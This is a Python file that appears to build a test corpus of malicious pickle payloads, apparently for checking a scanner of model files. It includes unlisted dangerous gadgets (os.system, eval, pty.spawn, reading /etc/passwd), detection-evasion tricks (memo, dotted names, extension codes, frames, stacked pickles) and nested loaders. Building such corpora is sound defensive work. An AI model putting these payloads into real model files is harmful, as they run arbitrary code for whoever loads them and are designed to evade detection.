"""Vectors that are pickle programs, opcode by opcode: what they import, how they hide it, and how they end."""

import io
import pickle
import struct

import pickles
from attack import COMMAND, EXPRESSION, FIRED, PYTHON, Table
from pickles import bytes_, call, global_, proto, reduce, short, stack_global, unicode

ATTACKS = Table()
DATA = ATTACKS.data

SYSTEM = call("os", "system", unicode(COMMAND))
BODY = SYSTEM[2:-1]
BENIGN = pickle.dumps({"a": [1, 2.5, "x"]}, 2)
NONE, TRUE, EMPTY, DICT = b"N", b"\x88", b")", b"}"


def gadget(name, module, function, *arguments, fire="pickle", **options):
    """A call of one function by its plain name."""
    DATA(f"unlisted-gadget/{name}", call(module, function, *arguments), fire=fire, **options)


def text_list(*texts):
    return b"](" + b"".join(map(unicode, texts)) + b"e"


# --- Functions and classes that nobody listed as dangerous ---------------------------------------------------------------------
gadget("os", "os", "system", unicode(COMMAND))
gadget("posix", "posix", "system", unicode(COMMAND))
gadget("nt", "nt", "system", unicode(COMMAND), fire="")
gadget("subprocess", "subprocess", "getoutput", unicode(COMMAND))
gadget("python2", "commands", "getoutput", unicode(COMMAND))
gadget("eval", "builtins", "eval", unicode(PYTHON))
gadget("exec_python2", "__builtin__", "exec", unicode(PYTHON))
gadget("compile_and_exec", "builtins", "exec", reduce(global_("builtins", "compile"), unicode(PYTHON), unicode("x"), unicode("exec")))
gadget("open", "builtins", "open", unicode(FIRED), unicode("w"))
gadget("io_open", "io", "open", unicode(FIRED), unicode("w"))
gadget("file_io", "_io", "FileIO", unicode(FIRED), unicode("w"))
gadget("codecs_open", "codecs", "open", unicode(FIRED), unicode("w"))
gadget("cprofile", "cProfile", "run", unicode(PYTHON))
gadget("profile", "profile", "run", unicode(PYTHON))
gadget("timeit", "timeit", "timeit", unicode(PYTHON), fire="")  # a million times
gadget("trace_of_a_name", "pydoc", "pipepager", unicode("x"), unicode(COMMAND))
gadget("uuid", "uuid", "_get_command_stdout", unicode("touch"), unicode(FIRED))
gadget("imaplib", "imaplib", "IMAP4_stream", unicode(COMMAND))
gadget("logging_handler", "logging", "FileHandler", unicode(FIRED))
gadget("sqlite3", "sqlite3", "connect", unicode(FIRED))
gadget("zip_file", "zipfile", "ZipFile", unicode(FIRED), unicode("w"))
gadget("gzip_file", "gzip", "GzipFile", unicode(FIRED), unicode("w"))
gadget("bz2_file", "bz2", "BZ2File", unicode(FIRED), unicode("w"))
gadget("lzma_file", "lzma", "LZMAFile", unicode(FIRED), unicode("w"))
gadget("tar_file", "tarfile", "open", unicode(FIRED), unicode("w"))
gadget("wave_file", "wave", "open", unicode(FIRED), unicode("w"))
gadget("dbm", "dbm.dumb", "open", unicode("x"), unicode("n"), fire="")
gadget("py_compile", "py_compile", "main", text_list("x"), fire="")
gadget("fileinput", "fileinput", "input", unicode("x"), fire="")
gadget("script_helper", "test.support.script_helper", "assert_python_ok", unicode("-c"), unicode(PYTHON), fire="")
gadget("pip", "pip", "main", text_list("install", "x"), fire="", verdicts=("malicious", "code"))
gadget("pip_internal", "pip._internal.cli.main", "main", text_list("install", "x"), fire="", verdicts=("malicious", "code"))
gadget("ensurepip", "ensurepip", "_run_pip", text_list("install", "x"), fire="")
gadget("ctypes", "ctypes", "CDLL", unicode("./x.so"), fire="")
gadget("import_module", "importlib", "import_module", unicode("antigravity"), fire="")
gadget("runpy", "runpy", "_run_code", unicode(PYTHON), DICT)
gadget("code", "code", "InteractiveInterpreter", DICT, fire="")
gadget("pty", "pty", "spawn", text_list("sh", "-c", COMMAND))
gadget("multiprocessing", "multiprocessing.util", "spawnv_passfds", bytes_(b"/bin/true"), text_list("true"), b")", fire="")
gadget("attrgetter", "operator", "attrgetter", unicode("system"), fire="")
gadget("methodcaller", "operator", "methodcaller", unicode("system"), fire="")
gadget("map", "builtins", "map", global_("os", "system"), text_list(COMMAND), fire="")
gadget("reduce", "functools", "reduce", global_("os", "system"), text_list(COMMAND), fire="")
gadget("map_in_a_list", "builtins", "list", reduce(global_("builtins", "map"), global_("os", "system"), text_list(COMMAND)))
gadget("map_in_a_set", "builtins", "set", reduce(global_("builtins", "map"), global_("builtins", "eval"), text_list(PYTHON)))
gadget("map_in_a_counter", "collections", "Counter", reduce(global_("builtins", "map"), global_("os", "system"), text_list(COMMAND)))
gadget("weakref_finalize", "weakref", "finalize", reduce(global_("collections", "OrderedDict")), global_("os", "system"), unicode(COMMAND))
gadget("atexit", "atexit", "register", global_("os", "system"), unicode(COMMAND))
gadget("thread", "_thread", "start_new_thread", global_("os", "system"), unicode(COMMAND) + b"\x85", fire="")
gadget("sched_of_threads", "threading", "Timer", b"K\x00", global_("os", "system"), text_list(COMMAND), fire="")
gadget("executor", "concurrent.futures.thread", "_WorkItem", NONE, global_("os", "system"), NONE, NONE, fire="")
gadget("numpy_runstring", "numpy.testing._private.utils", "runstring", unicode(PYTHON), DICT)
gadget("numpy_f2py", "numpy.f2py.crackfortran", "myeval", unicode(EXPRESSION))
gadget("numpy_savetxt", "numpy", "savetxt", unicode(FIRED), b"](K\x01e")
gadget("numpy_memmap", "numpy", "memmap", unicode(FIRED), unicode("uint8"), unicode("w+"), b"K\x00", b"K\x01\x85")
gadget("numpy_fromfile", "numpy", "fromfile", unicode("/etc/passwd"), fire="")
gadget("numpy_vectorize", "numpy", "vectorize", global_("os", "system"), fire="")
gadget("torch_collect_env", "torch.utils.collect_env", "run", unicode(COMMAND))
gadget("torch_exec", "torch.jit.unsupported_tensor_ops", "execWrapper", unicode(PYTHON), DICT, DICT)
gadget("torch_hub", "torch.hub", "load", unicode("."), unicode("x"), fire="")
gadget("torch_load", "torch", "load", unicode("x"), fire="")
gadget("torch_save", "torch", "save", NONE, unicode(FIRED))
gadget("torch_library", "torch._ops", "load_library", unicode("x.so"), fire="")
gadget("torch_inductor", "torch._inductor.codecache", "compile_file", unicode("x"), fire="")
gadget("joblib_hash", "joblib._dashboard", "x", fire="")
gadget("sklearn_fetch", "sklearn.datasets", "fetch_openml", unicode("x"), fire="")
gadget("sklearn_write", "sklearn.datasets._svmlight_format_io", "dump_svmlight_file", b"]](K\x01ea", b"](K\x01e", unicode(FIRED))
gadget("sympy_eval", "sympy", "sympify", unicode(EXPRESSION))
gadget("sympy_parser", "sympy.parsing.sympy_parser", "parse_expr", unicode(EXPRESSION))
gadget("h5py_file", "h5py", "File", unicode(FIRED), unicode("w"))
gadget("h5py_internal", "h5py._hl.files", "File", unicode(FIRED), unicode("w"))
gadget("onnx_write", "onnx", "save_model", bytes_(b""), unicode(FIRED))
gadget("fsspec_touch", "fsspec.implementations.local", "LocalFileSystem.touch", reduce(global_("fsspec.implementations.local", "LocalFileSystem")), unicode(FIRED), fire="")
gadget("execnet", "execnet.multi", "makegateway", unicode("popen"), fire="")
gadget("hub_snapshot", "huggingface_hub", "snapshot_download", unicode("x/y"), fire="")
gadget("hub_file", "huggingface_hub.file_download", "hf_hub_download", unicode("x/y"), unicode("z"), fire="")
gadget("transformers_remote_code", "transformers.dynamic_module_utils", "get_class_from_dynamic_module", unicode("x.Y"), unicode("x/y"), fire="")
gadget("transformers_pipeline", "transformers", "pipeline", unicode("text-generation"), fire="")
gadget("gevent", "gevent.subprocess", "check_output", text_list("sh", "-c", COMMAND), fire="")
gadget("numexpr", "numexpr", "evaluate", unicode(EXPRESSION), fire="")
gadget("torchvision_download", "torchvision.datasets.utils", "download_url", unicode("http://example.com/x"), unicode("."), fire="")
gadget("cffi", "cffi.api", "FFI", fire="")
gadget("tensorflow_write", "tensorflow", "io.write_file", unicode(FIRED), unicode("x"), fire="")
gadget("keras_get_file", "keras.utils", "get_file", unicode("x"), unicode("http://example.com/x"), fire="")
gadget("pandas_query", "pandas.core.computation.eval", "eval", unicode("x"), fire="", verdicts=("malicious", "code"))
gadget("site", "site", "addpackage", unicode("."), unicode("x.pth"), NONE, fire="")
gadget("webbrowser", "webbrowser", "open", unicode("http://example.com"), fire="")
gadget("socket", "socket", "create_connection", b"(" + unicode("127.0.0.1") + b"K\x01t", fire="")
gadget("urlopen", "urllib.request", "urlopen", unicode("http://example.com"), fire="")
gadget("exit", "sys", "exit", fire="")
gadget("breakpoint", "builtins", "breakpoint", fire="")
gadget("signal", "signal", "raise_signal", b"K\x0a", fire="")
gadget("resolve_name", "pkgutil", "resolve_name", unicode("os:system"), fire="")
DATA("unlisted-gadget/resolved_and_called", proto(2, reduce(reduce(global_("pkgutil", "resolve_name"), unicode("os:system")), unicode(COMMAND))), fire="pickle")
DATA("unlisted-gadget/getattr_of_a_module", proto(2, reduce(reduce(global_("builtins", "getattr"), reduce(global_("builtins", "__import__"), unicode("os")), unicode("system")), unicode(COMMAND))), fire="pickle")
DATA("unlisted-gadget/partial_called", proto(2, reduce(reduce(global_("functools", "partial"), global_("os", "system")), unicode(COMMAND))), fire="pickle")
DATA("unlisted-gadget/methodcaller_called", proto(2, reduce(reduce(global_("operator", "methodcaller"), unicode("system"), unicode(COMMAND)), reduce(global_("importlib", "import_module"), unicode("os")))), fire="pickle")
DATA("unlisted-gadget/lookup_of_a_codec", proto(2, reduce(global_("codecs", "register"), global_("os", "system"))), fire="")
DATA("unlisted-gadget/code_object", proto(2, reduce(global_("types", "FunctionType"), reduce(global_("marshal", "loads"), bytes_(b"N")), DICT)))
DATA("unlisted-gadget/joblib", SYSTEM, "model.joblib", fire="joblib")
DATA("unlisted-gadget/torch_archive", lambda: pickles.zipped(SYSTEM, [("byteorder", b"little")]), "model.pt", fire="torch")
DATA("unlisted-gadget/torch_legacy", lambda: pickles.legacy(SYSTEM), "model.pt", fire="torch")


# --- Names with dots -----------------------------------------------------------------------------------------------------------
def dotted(name, module, attribute, *arguments, fire="pickle", **options):
    DATA(f"dotted-name/{name}", proto(4, reduce(stack_global(module, attribute), *arguments)), fire=fire, **options)


dotted("pathlib", "pathlib", "os.system", unicode(COMMAND))
dotted("collections", "collections", "_sys.modules.get", unicode("os"), fire="")
dotted("random", "random", "_os.system", unicode(COMMAND))
dotted("argparse", "argparse", "_os.system", unicode(COMMAND))
dotted("uuid", "uuid", "os.system", unicode(COMMAND))
dotted("torch", "torch", "os.system", unicode(COMMAND))
dotted("torch_deep", "torch.nn.modules.linear", "torch.os.system", unicode(COMMAND), fire="")
dotted("torch_serialization", "torch.serialization", "os.system", unicode(COMMAND))
dotted("numpy", "numpy", "f2py.crackfortran.myeval", unicode(EXPRESSION))
dotted("joblib", "joblib.numpy_pickle", "os.system", unicode(COMMAND))
dotted("sklearn", "sklearn.utils", "os.system", unicode(COMMAND), fire="")
dotted("stranger", "yaml", "os.system", unicode(COMMAND), fire="")
dotted("globals_of_a_method", "collections", "OrderedDict.__init__", fire="")
dotted("globals_of_a_function", "argparse", "Namespace.__init__.__globals__.__getitem__", unicode("_os"), fire="")
dotted("from_file", "torch", "UntypedStorage.from_file", unicode(FIRED), TRUE, b"K\x08")
dotted("touch", "pathlib", "Path.touch", reduce(global_("pathlib", "PosixPath"), unicode(FIRED)))
dotted("write_text", "pathlib", "PosixPath.write_text", reduce(global_("pathlib", "PosixPath"), unicode(FIRED)), unicode("x"))
dotted("tofile", "numpy", "ndarray.tofile", reduce(global_("numpy", "zeros"), b"K\x01"), unicode(FIRED))
dotted("subclasses", "builtins", "object.__subclasses__", fire="")
dotted("fromkeys", "builtins", "dict.fromkeys", reduce(global_("builtins", "map"), global_("os", "system"), text_list(COMMAND)))
dotted("locals", "enum", "<locals>.x", fire="")
dotted("empty_component", "os", ".system", unicode("x"), fire="")
dotted("main", "__main__", "__builtins__.eval", unicode(PYTHON))
dotted("module_alone", "os.path", "os.system", unicode(COMMAND))
DATA("dotted-name/global_opcode", proto(4, reduce(global_("pathlib", "os.system"), unicode(COMMAND))), fire="pickle")
DATA("dotted-name/torch_archive", lambda: pickles.zipped(proto(4, reduce(stack_global("torch.storage", "io.open"), unicode(FIRED), unicode("w"))), [("byteorder", b"little")]), "model.pt", fire="torch")
DATA("dotted-name/class_of_an_object", proto(4, stack_global("argparse", "Namespace.__class__") + b")R"))

# --- The memo ------------------------------------------------------------------------------------------------------------------
def memo(name, *parts, version=4, fire="pickle", **options):
    DATA(f"memo/{name}", proto(version, *parts), fire=fire, **options)


CALL = short(COMMAND) + b"\x85R"
memo("put_pop_get", short("os") + b"q\x010" + short("system") + b"q\x020" + b"h\x01h\x02\x93" + CALL)
memo("reordered", short("system") + b"\x940" + short("os") + b"\x940" + b"h\x01h\x00\x93" + CALL)
memo("overwritten", short("collections") + b"q\x000" + short("os") + b"q\x000" + b"h\x00" + short("system") + b"\x93" + CALL)
memo("overwritten_after_use", short("os") + b"q\x00" + short("system") + b"\x93q\x010" + short("collections") + b"q\x000h\x01" + CALL)
memo("function_by_the_memo", global_("os", "system") + b"q\x000" + unicode("weights") + b"0h\x00" + CALL)
memo("as_text", b"Vos\np7\n0g7\n" + short("system") + b"\x93" + CALL)
memo("leading_zeros", short("os") + b"p007\n0g7\n" + short("system") + b"\x93" + CALL)
memo("underscores", short("os") + b"p1_0\n0g10\n" + short("system") + b"\x93" + CALL)
memo("blanks", short("os") + b"p 3 \n0g3\n" + short("system") + b"\x93" + CALL)
memo("plus", short("os") + b"p+3\n0g3\n" + short("system") + b"\x93" + CALL)
memo("long_index", short("os") + b"r\xff\xff\x00\x000j\xff\xff\x00\x00" + short("system") + b"\x93" + CALL)
memo("memoize_behind_a_put", short("collections") + b"q\x050" + short("os") + b"\x940" + b"h\x01" + short("system") + b"\x93" + CALL)
memo("memoize_over_a_put", short("collections") + b"q\x010" + short("os") + b"\x940" + b"h\x01" + short("system") + b"\x93" + CALL)
memo("old_strings", b"S'os'\nS'system'\n\x93" + CALL)
memo("binary_strings", b"U\x02osU\x06system\x93" + CALL)
memo("quoted_with_escapes", b"S'\\x6fs'\nS'sys\\164em'\n\x93" + CALL)
memo("unicode_escapes", b"V\\u006fs\nV\\U00000073ystem\n\x93" + CALL)
memo("long_unicode", b"\x8d" + struct.pack("<Q", 2) + b"os" + unicode("system") + b"\x93" + CALL)
memo("duplicated", short("system") + b"2" + b"0" + short("os") + b"q\x000" + b"0h\x00" + short("system") + b"\x93" + CALL)
memo("computed_text", reduce(global_("builtins", "str"), bytes_(b"os"), unicode("ascii")) + short("system") + b"\x93" + CALL)
memo("joined_text", reduce(stack_global("builtins", "str.join"), short(""), text_list("o", "s")) + short("system") + b"\x93" + CALL)
memo("formatted_text", reduce(stack_global("builtins", "format"), short("os")) + short("system") + b"\x93" + CALL)
memo("taken_from_a_list", text_list("os") + b"q\x000" + reduce(global_("operator", "getitem"), b"h\x00", b"K\x00") + short("system") + b"\x93" + CALL)
memo("list_changed_after_it_was_given", b"(" + b"]q\x00" + b"tq\x010" + global_("os", "system") + b"h\x01" + b"0" + b"h\x00" + short(COMMAND) + b"a0" + b"h\x00\x85" + b"0" + short(COMMAND) + b"\x85R")
memo("missing_key", b"h\x63", fire="", verdicts=("unreadable", "malicious"))
memo("missing_key_behind_a_call", reduce(global_("os", "system"), short(COMMAND)) + b"h\x63")
memo("numbers_as_names", b"K\x01K\x02\x93", fire="", verdicts=("malicious", "unreadable"))
memo("name_with_a_newline", short("os") + short("sys\ntem") + b"\x93" + CALL, fire="", verdicts=("malicious", "unreadable"))
memo("protocol_told_twice", b"\x80\x02" + global_("os", "system") + CALL)
memo("python2_name", global_("__builtin__", "apply") + global_("os", "system") + short(COMMAND) + b"\x85\x86R", version=2, fire="")
memo("renamed_module", global_("os", "getcwdu") + b")R", version=2, fire="")

# --- Calls whose results are gone ------------------------------------------------------------------------------------------------
POPEN = b"](" + unicode("touch") + unicode(FIRED) + b"e"
SHELL = global_("subprocess", "Popen")


def vanish(name, *parts, version=2, fire="pickle", **options):
    DATA(f"vanishing-call/{name}", proto(version, *parts, NONE), fire=fire, **options)


vanish("reduce_pop", BODY + b"0")
vanish("inst_pop", b"(" + unicode(COMMAND) + b"ios\nsystem\n0")
vanish("obj_pop", b"(" + global_("os", "system") + unicode(COMMAND) + b"o0")
vanish("obj_class_pop", b"(" + SHELL + POPEN + b"o0")
vanish("newobj_pop", SHELL + POPEN + b"\x85\x810", fire="")
vanish("newobj_file", global_("_io", "FileIO") + unicode(FIRED) + unicode("w") + b"\x86\x810", fire="")
vanish("newobj_ex_pop", SHELL + b")}" + unicode("args") + POPEN + b"s\x920", version=4, fire="")
vanish("pop_mark", b"(" + BODY + b"1")
vanish("below_the_result", BODY)
vanish("overwritten_in_a_dict", b"}" + unicode("a") + BODY + b"s" + unicode("a") + NONE + b"s0")
vanish("as_a_key", b"}" + BODY + NONE + b"s0")
vanish("in_a_set", b"\x8f(" + BODY + b"\x900", version=4)
vanish("in_a_frozenset", b"(" + BODY + b"\x910", version=4)
vanish("as_a_state", global_("argparse", "Namespace") + b")R}" + unicode("x") + BODY + b"sb0")
vanish("as_an_argument", reduce(global_("collections", "OrderedDict"), b"](" + b"]" + b"(" + unicode("k") + BODY + b"eee") + b"0")
vanish("as_a_persistent_id", BODY + b"Q0", fire="pickle")
vanish("overwritten_in_the_memo", BODY + b"q\x000" + NONE + b"q\x000")
vanish("import_alone", global_("antigravity", "x") + b"0", fire="")
vanish("import_unused", global_("subprocess", "run") + b"0", fire="")
vanish("inst_of_a_class", b"(" + unicode(FIRED) + unicode("w") + b"i_io\nFileIO\n0")
vanish("inst_without_arguments", b"(ipdb\nPdb\n0", fire="")
vanish("build_runs_setstate", global_("argparse", "Namespace") + b")R}" + unicode("__setstate__") + global_("os", "system") + b"sb" + unicode(COMMAND) + b"b0")
vanish("append_of_its_own", global_("argparse", "Namespace") + b")R}" + unicode("append") + global_("os", "system") + b"sb" + unicode(COMMAND) + b"a0")
vanish("extend_of_its_own", global_("argparse", "Namespace") + b")R}" + unicode("extend") + global_("builtins", "eval") + b"sb(" + unicode(PYTHON) + b"e0", fire="")
vanish("append_of_the_content", global_("collections", "UserList") + b")R}" + unicode("data") + global_("argparse", "Namespace") + b")R}" + unicode("append") + global_("os", "system") + b"sbsb" + unicode(COMMAND) + b"a0", fire="")
vanish("append_by_inert_names", global_("collections", "UserList") + b")R}" + unicode("data") + global_("argparse", "Namespace") + b")R}" + unicode("append") + global_("pathlib", "PosixPath") + b"sbsb" + unicode("/") + b"a0", fire="")

# --- What NumPy is told of its elements: raw bytes become pointers, fields reach into other memory ---------------------------------
def dtype(code, *state):
    return reduce(global_("numpy", "dtype"), unicode(code), b"\x89", TRUE) + b"(" + b"".join(state) + b"tb"


def number(value):
    return b"J" + struct.pack("<i", value)


def array(elements, data):
    made = reduce(global_("numpy.core.multiarray", "_reconstruct"), global_("numpy", "ndarray"), b"K\x00\x85", bytes_(b"b"))
    return made + b"(K\x01K\x01\x85" + elements + b"\x89" + data + b"tb"


FLOAT = dtype("f8", number(3), unicode("<"), NONE, NONE, NONE, number(-1), number(-1), number(0))
OBJECT = dtype("O8", number(3), unicode("|"), NONE, NONE, NONE, number(-1), number(-1), number(63))


def record(field, offset, size, flags):
    return dtype(f"V{size}", number(3), unicode("|"), NONE, unicode("a") + b"\x85", b"}" + unicode("a") + field + number(offset) + b"\x86s", number(size), number(1), number(flags))


for _name, _dtype in {
    "hidden_objects": dtype("O8", number(3), unicode("|"), NONE, NONE, NONE, number(-1), number(-1), number(0)),
    "objects_from_bytes": dtype("O8", number(3), unicode("|"), NONE, NONE, NONE, number(-1), number(-1), number(61)),
    "numbers_as_objects": dtype("f8", number(3), unicode("<"), NONE, NONE, NONE, number(-1), number(-1), number(63)),
    "field_beyond": record(FLOAT, 1000, 8, 16),
    "field_before": record(FLOAT, -8, 8, 16),
    "hidden_objects_of_a_field": record(OBJECT, 0, 8, 16),
    "array_beyond": dtype("V8", number(3), unicode("|"), FLOAT + number(9) + b"\x85\x86", NONE, NONE, number(8), number(8), number(0)),
    "larger_elements": dtype("f8", number(3), unicode("<"), NONE, NONE, NONE, number(4096), number(8), number(0)),
    "second_state": FLOAT + b"(" + number(3) + unicode("<") + NONE + NONE + NONE + number(-1) + number(-1) + number(0) + b"tb",
}.items():
    DATA(f"unlisted-gadget/dtype_{_name}", proto(3, array(_dtype, bytes_(b"A" * 8))))

# --- Extension codes -------------------------------------------------------------------------------------------------------------
ADD = reduce(global_("copyreg", "add_extension"), unicode("os"), unicode("system"), b"K\x01")
DATA("extension-code/one_byte", proto(2, b"\x82\x01" + unicode(COMMAND) + b"\x85R"))
DATA("extension-code/two_bytes", proto(2, b"\x83\x01\x00" + unicode(COMMAND) + b"\x85R"))
DATA("extension-code/four_bytes", proto(2, b"\x84\x01\x00\x00\x00" + unicode(COMMAND) + b"\x85R"))
DATA("extension-code/registered_and_called", proto(2, ADD + b"0\x82\x01" + unicode(COMMAND) + b"\x85R"), fire="pickle")
DATA("extension-code/registered_and_called_2", proto(2, ADD + b"0\x83\x01\x00" + unicode(COMMAND) + b"\x85R"), fire="pickle")
DATA("extension-code/never_called", proto(2, b"\x82\x010N"))
DATA("extension-code/as_an_object", proto(2, b"(\x82\x01" + unicode(COMMAND) + b"o"))
DATA("extension-code/by_newobj", proto(2, b"\x82\x01)\x81"))
DATA("extension-code/registry", proto(2, global_("copyreg", "_inverted_registry") + b"K\x01" + unicode("os") + unicode("system") + b"\x86s0\x82\x01" + unicode(COMMAND) + b"\x85R"), fire="pickle")
DATA("extension-code/cache", proto(2, global_("copyreg", "_extension_cache") + b"K\x01" + global_("os", "system") + b"s0\x82\x01" + unicode(COMMAND) + b"\x85R"), fire="pickle")
DATA("extension-code/dispatch_table", proto(2, global_("copyreg", "dispatch_table") + global_("builtins", "int") + global_("os", "system") + b"s"))
DATA("extension-code/pickle_of_a_type", call("copyreg", "pickle", global_("builtins", "int"), global_("os", "system")))
DATA("extension-code/zero", proto(2, b"\x82\x00)R"), verdicts=("malicious", "unreadable"))

# --- What breaks off behind its call ---------------------------------------------------------------------------------------------
for _name, _end in {
    "no_end": b"", "bad_opcode": b"\xff\xff\xff", "missing_memo": b"h\x63.", "underflow": b"000.", "failing_import": b"cno.such.module\nx\n.",
    "failing_call": reduce(global_("builtins", "int"), unicode("x")) + b".", "no_persistent_load": b"K\x01Q.", "bad_text": b"V\\u00\n.",
    "half_an_opcode": b"X\xff\xff", "a_wrong_mark": b"t.", "a_bad_number": b"Ix\n.", "a_huge_size": b"T\xff\xff\xff\x7f", "negative_size": b"T\xff\xff\xff\xff.",
    "high_protocol": b"\x80\x09.", "buffer_elsewhere": b"\x97.", "zeros": bytes(64), "bad_state": b"K\x01K\x01b.", "unhashable": b"}]Ns.",
}.items():
    DATA(f"broken-off/{_name}", SYSTEM[:-1] + _end, fire="pickle")
DATA("broken-off/protocol0", f"cos\nsystem\n(S'{COMMAND}'\ntR".encode(), fire="pickle")
DATA("broken-off/torch_archive", lambda: pickles.zipped(SYSTEM[:-1] + b"\xff", [("byteorder", b"little")]), "model.pt", fire="torch")
DATA("broken-off/torch_legacy", SYSTEM[:-1] + b"\xff", "model.pt", fire="torch")
DATA("broken-off/numpy", lambda: _object_array(SYSTEM[:-1] + b"\xff"), "model.npy", fire="numpy")
DATA("broken-off/text_before_the_call", f"(cposix\nsystem\nS'{COMMAND}'\ntR.".encode())
DATA("broken-off/text_without_a_mark", f"csubprocess\nPopen\n(S'{COMMAND}'\nR.".encode())
DATA("broken-off/text_under_another_name", f"(cbuiltins\nexec\nS'{COMMAND}'\ntR.".encode(), "weights.bin")
DATA("broken-off/before_the_call", global_("os", "system") + unicode("x") + b"\x85", verdicts=("malicious", "unreadable"))


def _object_array(pickled, shape="(1,)"):
    header = f"{{'descr': '|O', 'fortran_order': False, 'shape': {shape}, }}"
    header += " " * (63 - (len(header) + 10) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickled


# --- Frames ----------------------------------------------------------------------------------------------------------------------
def framed(size, *parts, before=b""):
    return b"\x80\x04" + before + b"\x95" + struct.pack("<Q", size) + b"".join(parts)


_CALL4 = reduce(stack_global("os", "system"), short(COMMAND))
DATA("frame/straddling_argument", framed(4, b"\x8c\x20" + b"a" * 4, _CALL4, b"."))
DATA("frame/straddling_global", framed(3, b"cos\nsystem\n", short(COMMAND), b"\x85R."))
DATA("frame/hidden_behind_a_text", framed(6, b"X\x40\x00\x00\x00a", _CALL4 + b"." + b" " * 64))
DATA("frame/past_the_end", framed(1 << 40, _CALL4, b"."), verdicts=("malicious", "unreadable"))
DATA("frame/past_the_end_benign", framed(1 << 40, b"N."), verdicts=("malicious", "unreadable"))
DATA("frame/negative", framed((1 << 64) - 1, _CALL4, b"."), verdicts=("malicious", "unreadable"))
DATA("frame/in_a_frame", framed(len(_CALL4) + 20, b"\x95" + struct.pack("<Q", len(_CALL4) + 1), _CALL4, b"."))
DATA("frame/empty", framed(0, _CALL4, b"."), fire="pickle")
DATA("frame/exact", framed(len(_CALL4) + 1, _CALL4, b"."), fire="pickle")
DATA("frame/many_small", b"\x80\x04" + b"".join(b"\x95" + struct.pack("<Q", len(p)) + p for p in (stack_global("os", "system"), short(COMMAND), b"\x85", b"R", b".")), fire="pickle")
DATA("frame/ends_within_the_call", framed(len(_CALL4) - 2, _CALL4, b"."))
DATA("frame/before_the_protocol", b"\x95" + struct.pack("<Q", len(SYSTEM)) + SYSTEM, verdicts=("malicious",))
DATA("frame/short", framed(1, b"N", _CALL4, b"."), fire="pickle")

# --- Several pickles in a file ---------------------------------------------------------------------------------------------------
DATA("several-pickles/second", BENIGN + SYSTEM, fire="pickles")
DATA("several-pickles/third", BENIGN * 2 + SYSTEM, fire="pickles")
DATA("several-pickles/fiftieth", BENIGN * 49 + SYSTEM, fire="pickles")
DATA("several-pickles/behind_ten_thousand", b"N." * 10_050 + SYSTEM, fire="pickles")
DATA("several-pickles/behind_rubbish", BENIGN + bytes(7) + SYSTEM)
DATA("several-pickles/broken_second", BENIGN + SYSTEM[:-1], fire="pickles")
DATA("several-pickles/protocol0_second", BENIGN + f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode(), fire="pickles")
DATA("several-pickles/second_object_array", lambda: _numbers() + _object_array(SYSTEM), "model.npy", fire="numpy_twice")
DATA("several-pickles/magic_by_eval", lambda: _legacy(0, call("builtins", "eval", unicode(f"{EXPRESSION} or 0x1950a86a20f9469cfc6c"))), "model.pt", fire="torch")
for _at, _what in enumerate(("magic", "protocol", "system", "object", "keys")):
    DATA(f"several-pickles/legacy_{_what}", lambda at=_at: _legacy(at, proto(2, BODY + b"0" + pickle.dumps(_LEGACY[at], 2)[2:-1])), "model.pt", fire="torch")
DATA("several-pickles/behind_a_legacy_file", lambda: _legacy(9, b"") + SYSTEM, "model.pt")
DATA("several-pickles/between_storages", lambda: _legacy(9, b"") + bytes(16) + SYSTEM, "model.pt")

_LEGACY = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, {}, []]


def _legacy(at, changed):
    return b"".join(changed if i == at else pickle.dumps(part, 2) for i, part in enumerate(_LEGACY))


def _numbers():
    import numpy

    buffer = io.BytesIO()
    numpy.save(buffer, numpy.arange(3))
    return buffer.getvalue()


# --- Loaders that a pickle calls -------------------------------------------------------------------------------------------------
def nested(name, module, function, *arguments, fire="pickle", **options):
    DATA(f"nested-loader/{name}", call(module, function, *arguments), fire=fire, **options)


def stream(data):
    return reduce(global_("io", "BytesIO"), bytes_(data))


nested("pickle", "pickle", "loads", bytes_(SYSTEM))
nested("_pickle", "_pickle", "loads", bytes_(SYSTEM))
nested("cpickle", "cPickle", "loads", bytes_(SYSTEM))
nested("python_unpickler", "pickle", "_loads", bytes_(SYSTEM))
nested("load_of_a_stream", "pickle", "load", stream(SYSTEM))
nested("cloudpickle", "cloudpickle", "loads", bytes_(SYSTEM))
nested("dill", "dill", "loads", bytes_(SYSTEM), fire="")
nested("marshal", "marshal", "loads", bytes_(b"N"), fire="")
nested("joblib", "joblib", "load", stream(SYSTEM))
nested("joblib_internal", "joblib.numpy_pickle", "load", stream(SYSTEM))
nested("joblib_compat", "joblib.numpy_pickle_compat", "load_compatibility", unicode("x"), fire="")
nested("numpy", "numpy", "load", stream(_object_array(SYSTEM)), NONE, TRUE)
nested("numpy_format", "numpy.lib.format", "read_array", stream(_object_array(SYSTEM)), TRUE)
nested("pandas", "pandas.io.pickle", "read_pickle", unicode("x"), fire="", verdicts=("malicious",))
nested("pandas_top", "pandas", "read_pickle", unicode("x"), fire="")
nested("torch_load", "torch", "load", stream(pickles.legacy(SYSTEM)), fire="")
nested("torch_serialization", "torch.serialization", "load", stream(pickles.legacy(SYSTEM)), fire="")
nested("torch_jit", "torch.jit", "load", unicode("x"), fire="")
nested("forking_pickler", "multiprocessing.reduction", "ForkingPickler.loads", bytes_(SYSTEM), fire="")
nested("shelve", "shelve", "open", unicode("x"), fire="")
nested("load_from_bytes", "torch.storage", "_load_from_bytes", bytes_(SYSTEM))
nested("load_from_bytes_archive", "torch.storage", "_load_from_bytes", bytes_(pickles.zipped(SYSTEM, [("byteorder", b"little")])))
nested("load_from_bytes_twice", "torch.storage", "_load_from_bytes", bytes_(pickles.legacy(call("torch.storage", "_load_from_bytes", bytes_(SYSTEM)))))
nested("load_from_bytes_computed", "torch.storage", "_load_from_bytes", reduce(global_("builtins", "bytes"), b"](" + b"".join(b"K" + bytes([b]) for b in SYSTEM) + b"e"))
nested("load_from_bytes_of_a_bytearray", "torch.storage", "_load_from_bytes", reduce(global_("builtins", "bytearray"), bytes_(SYSTEM)))
nested("load_from_bytes_in_text", "torch.storage", "_load_from_bytes", pickles.latin1(SYSTEM))
nested("unpickler", "pickle", "Unpickler", stream(SYSTEM), fire="")
nested("keras", "keras.models", "load_model", unicode("x"), fire="")
nested("tensorflow", "tensorflow.saved_model", "load", unicode("x"), fire="")
